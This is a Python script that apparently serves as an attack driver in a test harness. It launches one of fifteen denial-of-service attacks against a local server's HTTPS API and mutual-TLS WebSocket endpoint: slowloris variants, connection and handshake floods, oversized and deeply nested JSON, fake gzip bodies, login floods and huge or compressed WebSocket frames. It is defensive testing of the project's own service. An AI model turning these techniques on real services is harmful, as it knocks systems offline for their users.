"""One attack on a running server, from an address of its own, until it is ended.

attacker.py NAME PEOPLE_PORT PUMP_PORT CA_FOLDER PUMP USER PASSWORD_FILE

Prints, once it is at work, "begun"; and at the end (SIGTERM) what it got to do. Knows the protocols
only as far as it breaks them. Standard library alone.
"""

import asyncio
import json
import os
import signal
import socket
import ssl
import sys

FROM = "127.0.0.66"
HOST = "Host: localhost:{port}\r\n"
KEY = "dGhlIHNhbXBsZSBub25jZQ=="
MANY = 200


class Attack:
    def __init__(self, people, pumps, ca, pump, user, password):
        self.people, self.pumps, self.user, self.password = people, pumps, user, password
        self.tls = ssl.create_default_context(cafile=os.path.join(ca, "ca.pem"))
        self.pump_tls = ssl.create_default_context(cafile=os.path.join(ca, "ca.pem"))
        self.pump_tls.load_cert_chain(os.path.join(ca, pump + ".pem"), os.path.join(ca, pump + ".key"))
        self.done = {}

    def count(self, what):
        self.done[what] = self.done.get(what, 0) + 1

    async def tcp(self, port):
        return await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port, local_addr=(FROM, 0)), 5)

    async def speak(self, port=None, tls=None):
        return await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port or self.people, ssl=tls or self.tls,
                                    server_hostname="localhost", local_addr=(FROM, 0)), 10)

    async def many(self, one, count=MANY):
        """`count` at once, each again as soon as it is over."""
        async def for_ever():
            while True:
                try:
                    await one()
                    self.count("rounds")
                except (OSError, ssl.SSLError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                    self.count("refused")
                await asyncio.sleep(0.01)
        await asyncio.gather(*(for_ever() for _ in range(count)))

    async def drip(self, writer, text):
        """A byte a second until the other side has had enough."""
        try:
            for byte in text:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.close()

    def head(self, method, path, *fields, port=None):
        host = HOST.format(port=port or self.people)
        return (f"{method} {path} HTTP/1.1\r\n{host}" + "".join(f + "\r\n" for f in fields)
                + "\r\n").encode()

    async def answer(self, reader, writer):
        """Reads one answer's head, and all that comes before the end if the server closes."""
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 15)
            self.count(head.split(b" ")[1].decode())
            return head
        finally:
            writer.close()

    async def header_loris(self):
        async def one():
            _, writer = await self.speak()
            await self.drip(writer, self.head("GET", "/", "X-A: " + "b" * 500))
        await self.many(one)

    async def body_loris(self):
        async def one():
            _, writer = await self.speak()
            writer.write(self.head("POST", "/api/v1/login", "Content-Type: application/json",
                                   "Content-Length: 60000"))
            await self.drip(writer, b"{" * 60000)
        await self.many(one)

    async def tls_loris(self):
        async def one():
            _, writer = await self.tcp(self.pumps)
            await self.drip(writer, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 500)
        await self.many(one)

    async def connection_flood(self):
        async def one():
            _, writer = await self.tcp(self.people)
            writer.close()
        await self.many(one, 50)

    async def handshake_flood(self):
        async def one():
            _, writer = await self.speak(self.pumps, self.pump_tls)
            writer.close()
        await self.many(one, 50)

    async def chunk_extension(self):
        async def one():
            reader, writer = await self.speak()
            writer.write(self.head("POST", "/api/v1/login", "Content-Type: application/json",
                                   "Transfer-Encoding: chunked"))
            writer.write(b"5;")
            for _ in range(100):
                writer.write(b"a" * 16384)
                await asyncio.wait_for(writer.drain(), 10)
            await self.answer(reader, writer)
        await self.many(one, 20)

    async def post(self, body, *fields):
        reader, writer = await self.speak()
        writer.write(self.head("POST", "/api/v1/login", "Content-Type: application/json",
                               f"Content-Length: {len(body)}", *fields))
        writer.write(body)
        try:
            await asyncio.wait_for(writer.drain(), 10)
        except (ConnectionError, ssl.SSLError):
            pass
        await self.answer(reader, writer)

    async def giant_json(self):
        body = b'{"name":"' + b"a" * (4 * 1024 * 1024 - 20) + b'"}'
        await self.many(lambda: self.post(body), 20)

    async def deep_json(self):
        await self.many(lambda: self.post(b"[" * 65536), 20)

    async def compressed_body(self):
        bomb = bytes.fromhex("1f8b0800") + b"\x00" * 60000
        await self.many(lambda: self.post(bomb, "Content-Encoding: gzip"), 20)

    async def login_flood(self):
        body = json.dumps({"name": self.user, "password": "wrong" * 20}).encode()
        await self.many(lambda: self.post(body), 30)

    async def request_flood(self):
        async def one():
            reader, writer = await self.speak()
            ask = self.head("GET", "/api/v1/openapi.json")
            try:
                for _ in range(1000):
                    writer.write(ask)
                    await writer.drain()
                    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 15)
                    self.count(head.split(b" ")[1].decode())
                    length = [line for line in head.lower().split(b"\r\n") if b"content-length" in line]
                    await reader.readexactly(int(length[0].split(b":")[1]))
            finally:
                writer.close()
        await self.many(one, 30)

    async def token(self):
        reader, writer = await self.speak()
        body = json.dumps({"name": self.user, "password": self.password}).encode()
        writer.write(self.head("POST", "/api/v1/login", "Content-Type: application/json",
                               f"Content-Length: {len(body)}", "Connection: close") + body)
        text = await asyncio.wait_for(reader.read(), 15)
        writer.close()
        return json.loads(text.split(b"\r\n\r\n", 1)[1])["token"]

    def upgrade(self, path, port, *fields):
        return self.head("GET", path, "Upgrade: websocket", "Connection: Upgrade",
                         "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + KEY, *fields, port=port)

    async def pump_frames(self, frames, *fields):
        """As an enrolled pump: the upgrade, then whatever `frames` makes."""
        async def one():
            reader, writer = await self.speak(self.pumps, self.pump_tls)
            writer.write(self.upgrade("/pump", self.pumps, *fields))
            try:
                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 15)
                self.count(head.split(b" ")[1].decode())
                for part in frames():
                    writer.write(part)
                    await asyncio.wait_for(writer.drain(), 10)
                await asyncio.wait_for(reader.read(), 15)
            finally:
                writer.close()
        await self.many(one, 20)

    async def huge_frames(self):
        def frames():
            yield b"\x81\xff" + (1 << 62).to_bytes(8, "big") + b"\x00" * 4
            for _ in range(640):
                yield b"a" * 16384
        await self.pump_frames(frames)

    async def deep_messages(self):
        def frames():
            body = b"[" * 60000
            yield b"\x81\xfe" + len(body).to_bytes(2, "big") + b"\x00" * 4 + body
        await self.pump_frames(frames)

    async def compression_bomb(self):
        def frames():
            body = b"\x00" * 60000
            yield b"\xc1\xfe" + len(body).to_bytes(2, "big") + b"\x00" * 4 + body
        await self.pump_frames(frames, "Sec-WebSocket-Extensions: permessage-deflate")

    async def slow_readers(self):
        """Feeds of every ward that are opened and never read."""
        token = await self.token()

        async def one():
            raw = socket.socket()
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            raw.setblocking(False)
            raw.bind((FROM, 0))
            await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", self.people))
            reader, writer = await asyncio.wait_for(asyncio.open_connection(
                sock=raw, ssl=self.tls, server_hostname="localhost", limit=1024), 10)
            writer.write(self.upgrade("/feed", self.people, "Authorization: Bearer " + token))
            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 15)
            self.count("feeds")
            writer.transport.pause_reading()
            try:
                await asyncio.sleep(30)
            finally:
                writer.transport.abort()
        await self.many(one, 100)


NAMES = ("header_loris", "body_loris", "tls_loris", "connection_flood", "handshake_flood",
         "chunk_extension", "giant_json", "deep_json", "compressed_body", "login_flood",
         "request_flood", "huge_frames", "deep_messages", "compression_bomb", "slow_readers")


async def main(name, people, pumps, ca, pump, user, password_file):
    with open(password_file, encoding="utf-8") as file:
        attack = Attack(int(people), int(pumps), ca, pump, user, file.readline().strip())
    work = asyncio.ensure_future(getattr(attack, name)())
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, work.cancel)
    print("begun", flush=True)
    try:
        await work
    except asyncio.CancelledError:
        pass
    print(f"attacker: {name}: {attack.done}", file=sys.stderr, flush=True)
    os._exit(0)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--names"]:
        print("\n".join(NAMES))
    elif len(sys.argv) == 8 and sys.argv[1] in NAMES:
        asyncio.run(main(*sys.argv[1:]))
    else:
        sys.exit(__doc__)
